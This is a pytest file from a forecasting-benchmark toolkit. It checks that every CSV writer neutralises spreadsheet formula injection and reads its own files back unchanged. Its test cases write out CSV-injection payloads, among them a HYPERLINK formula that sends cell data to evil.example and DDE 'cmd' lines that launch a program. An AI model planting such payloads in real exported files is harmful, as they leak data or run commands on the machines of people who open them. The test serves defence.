"""No CSV the toolkit writes holds a cell a spreadsheet would run as a formula (OWASP's CSV injection rule: a text
cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading ``'``), numbers stay numbers, and
the toolkit reads its own files back as they were. Each case is a row.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pytest
from typer.testing import CliRunner

from agent_schemas import Question
from benchmarks.cli import app
from benchmarks.panels import write_panel
from benchmarks.questions import load_forecastbench, load_questions_file, read_table
from benchmarks.questions.tables import csv_text, neutralise_formula
from benchmarks.report.leaderboard import write_leaderboard
from benchmarks.teaching.class_split import class_split, write_class_split

cli = CliRunner()

#: (cell, as written): a text cell as the CSV holds it.
CELLS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),  # the issue's
    ("=1+1", "'=1+1"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("- a bullet point", "'- a bullet point"),
    ("-0.0132", "-0.0132"),  # a number written as text stays a number
    ("+3e-05", "+3e-05"),
    ("mean", "mean"),
    ("a=b", "a=b"),  # only the first character counts
    ("'quoted", "'quoted"),
    ("", ""),
]


@pytest.mark.parametrize("cell,written", CELLS, ids=[repr(c)[:30] for c, _ in CELLS])
def test_a_text_cell_is_written_neutralised_and_read_back_as_it_was(tmp_path, cell, written):
    table = pd.DataFrame({"id": ["q1"], "question": [cell or "x"], "forecast_date": ["2025-11-01"], "label": [cell],
                          "brier": [-0.0132]})
    text = csv_text(table)
    row = next(r for r in csv.DictReader(io.StringIO(text)))
    assert row["label"] == written and row["brier"] == "-0.0132"
    (path := tmp_path / "t.csv").write_text(text)
    assert read_table(path).rows[0]["label"] == cell  # the toolkit's reader undoes exactly what the writer did


def test_numbers_and_missing_values_stay_as_they_are():
    table = pd.DataFrame({"n": [1, -2], "x": [-0.5, float("nan")], "rank": pd.array([1, None], dtype="Int64"),
                          "note": ["=x", None]})
    assert csv_text(table) == "n,x,rank,note\n1,-0.5,1,'=x\n-2,,,\n"
    assert neutralise_formula(-1) == -1 and neutralise_formula(None) is None


def test_leaderboard_csv_of_score_neutralises_a_users_method_name(tmp_path):
    qs = load_forecastbench(question_type="market", one_per_source_question=True, sample_n=30, seed=1)
    lines = ["question_id,p_yes,method"] + [f'{q.id},0.4,"=HYPERLINK(""http://evil.example"",""x"")"' for q in qs] + [
        f"{q.id},{0.2 + 0.01 * i},mine" for i, q in enumerate(qs)]
    (f := tmp_path / "f.csv").write_text("\n".join(lines) + "\n")
    res = cli.invoke(app, ["score", str(f), "--no-baselines", "-o", str(tmp_path / "out"), "--n-resamples", "20"])
    assert res.exit_code == 0, res.output
    board = pd.read_csv(tmp_path / "out" / "leaderboard.csv")
    assert set(board["method"]) == {'\'=HYPERLINK("http://evil.example","x")', "mine"}
    assert board["brier"].dtype == float and board["delta_brier_vs_baseline"].dtype == float


def test_every_csv_writer_goes_through_the_one_helper(tmp_path):
    # the leaderboard of a run
    csv_path, _ = write_leaderboard(tmp_path / "board", pd.DataFrame({"label": ["@cmd"], "brier": [0.2]}), "")
    assert csv_path.read_text() == "label,brier\n'@cmd,0.2\n"
    # a panel, read back as it was
    rows = pd.DataFrame({"question_id": ["q1", "q1"], "forecaster": ["=ann", "bob"], "p_yes": [0.3, 0.6],
                         "reasoning": ["- falling rates", "+ rising"], "date": ["2025-11-01", "2025-11-01"], "outcome": [1, 1]})
    write_panel(rows, tmp_path / "panel.csv")
    text = (tmp_path / "panel.csv").read_text()
    assert "'=ann" in text and "'- falling rates" in text and "'+ rising" in text
    back = read_table(tmp_path / "panel.csv").rows
    assert [r["forecaster"] for r in back] == ["=ann", "bob"] and back[0]["reasoning"] == "- falling rates"
    # a class split's files, the students' read back as a question file
    q = Question(id="x1", text="-1 degrees in Paris on 2026-01-05?", forecast_date=dt.date(2025, 12, 1),
                 resolution_date=dt.date(2026, 1, 5), outcome=1, source="weather", question_type="dataset",
                 background="=the official series")
    write_class_split(class_split([q]), tmp_path / "students.csv", tmp_path / "teacher.csv")
    for name in ("students.csv", "teacher.csv"):
        text = (tmp_path / name).read_text()
        assert "'-1 degrees in Paris" in text and "'=the official series" in text
    back_q = load_questions_file(tmp_path / "teacher.csv")[0]
    assert (back_q.text, back_q.background) == (q.text, q.background)
